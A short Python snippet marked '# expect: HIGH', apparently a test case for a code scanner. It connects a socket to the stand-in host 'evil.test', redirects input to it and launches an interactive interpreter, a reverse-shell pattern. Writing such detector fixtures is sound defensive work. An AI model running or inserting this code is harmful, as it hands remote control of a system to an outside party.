# expect: HIGH
import code, socket, os
s = socket.socket(); s.connect(("evil.test", 1)); os.dup2(s.fileno(), 0)
code.interact()
